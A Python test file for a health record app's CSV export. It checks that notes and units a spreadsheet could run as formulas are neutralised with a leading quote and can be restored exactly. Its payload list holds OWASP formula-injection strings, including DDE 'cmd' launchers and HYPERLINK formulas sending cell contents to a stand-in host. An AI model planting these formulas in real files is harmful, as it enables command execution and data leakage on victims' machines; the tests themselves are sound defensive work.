"""CSV export and formula injection (issue 19, point 3): a cell a spreadsheet would run as a formula gets a leading
single quote (the OWASP rule); the numbers Regie writes itself stay numbers; the original comes back by the rule
docs/csv-format.md gives."""

import csv
import io
import re
from datetime import datetime, timedelta, timezone

import pytest

from phr.export import csv_export
from phr.monitoring.custom_measures import CustomMeasure
from phr.monitoring.readings import Reading

MORNING = datetime(2026, 3, 2, 8, 0, tzinfo=timezone(timedelta(hours=1)))
# OWASP's CSV injection examples, and the starts it lists (=, +, -, @, tab, carriage return).
PAYLOADS = [
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",                               # white space first: some programs trim it
    "'=1+1",                                # a quote the person typed themselves
    "''@x",
    '=HYPERLINK("http://evil.example?"&A1,"a, b")',   # the separator and quotes inside: quoted as well
]
HARMLESS = ["5 minuten na het eten", "'t ging goed", "a - b", "e-mail: x@y.nl", "", "3 + 4"]
STARTS = ("=", "+", "-", "@", "\t", "\r")
# docs/csv-format.md: how a reader gets the original back.
FORMULA = re.compile(r"'*\s*[=+\-@\t\r]")


def original(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and FORMULA.match(cell[1:]) else cell


def parsed(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def runs(cell: str) -> bool:
    """Whether a spreadsheet could take the cell for a formula: one of the starts, after any white space."""
    return cell.lstrip(" \n").startswith(STARTS)


def test_notes_that_would_run_as_formulas_are_neutralised_and_come_back_exactly(services):
    notes = PAYLOADS + HARMLESS
    for minute, note in enumerate(notes):
        services.readings.add(Reading("glucose", MORNING + timedelta(minutes=minute), 5.4, note=note))
    rows = parsed(csv_export.export_bytes(services))
    written = [row["note"] for row in rows]
    assert [original(cell) for cell in written] == notes
    assert not any(runs(cell) for row in rows for cell in row.values())
    assert written[0] == "'" + PAYLOADS[0]
    assert written[len(PAYLOADS):] == HARMLESS         # nothing else changes


def test_a_units_and_a_measures_text_are_neutralised_too(services):
    """The unit of a measure of the person's own (or a lab's, read from a file) is text from outside as well."""
    services.measures.add(CustomMeasure(name="Stappen", unit="@SUM(1)", low_bound=0, high_bound=100000,
                                        key="stappen"))
    services.readings.add(Reading("stappen", MORNING, 8000))
    [row] = parsed(csv_export.export_bytes(services))
    assert row["unit"] == "'@SUM(1)" and original(row["unit"]) == "@SUM(1)"


def test_a_negative_value_stays_a_number(services):
    services.measures.add(CustomMeasure(name="Base excess", unit="mmol/L", low_bound=-30, high_bound=30,
                                        key="base_excess"))
    services.readings.add(Reading("base_excess", MORNING, -3.5))
    [row] = parsed(csv_export.export_bytes(services))
    assert row["value"] == "-3.5" and float(row["value"]) == -3.5


@pytest.mark.parametrize("cell", PAYLOADS + HARMLESS + ["'", "''", "-", "'-", "=", " "])
def test_neutralising_is_undone_by_the_documented_rule(cell):
    written = csv_export.neutralised(cell)
    assert original(written) == cell
    assert not runs(written)
    assert written == cell or written == "'" + cell
